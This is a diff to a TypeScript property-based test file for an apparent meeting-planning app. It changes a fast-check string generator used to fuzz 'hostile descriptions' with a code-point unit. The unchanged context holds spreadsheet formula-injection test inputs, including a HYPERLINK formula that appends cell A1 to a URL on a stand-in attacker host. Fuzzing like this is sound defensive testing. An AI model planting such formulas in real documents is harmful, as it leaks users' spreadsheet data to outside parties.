@@ -15,6 +15,7 @@ import {
 } from '../../src/core/description';
 import { MEETING_DEFINITION, NO_RECORDING } from '../../src/core/toolkit';
 import { Meeting, MEETING_LIMITS, parseMeetingForm } from '../../src/core/meeting';
+import { codePoint } from './fuzz-arbitraries';
 
 const meeting: Meeting = {
   goal: 'Lead the spring product launch end to end',
@@ -277,7 +278,7 @@ describe('hostile descriptions', () => {
 const text = (max: number) =>
   fc.oneof(
     fc.string({ unit: 'grapheme', minLength: 1, maxLength: max }),
-    fc.string({ unit: 'binary', minLength: 1, maxLength: max }),
+    fc.string({ unit: codePoint, minLength: 1, maxLength: max }),
     fc.constantFrom(
       '=HYPERLINK("https://evil.test?"&A1,"click")',
       '+SUM(A1)',
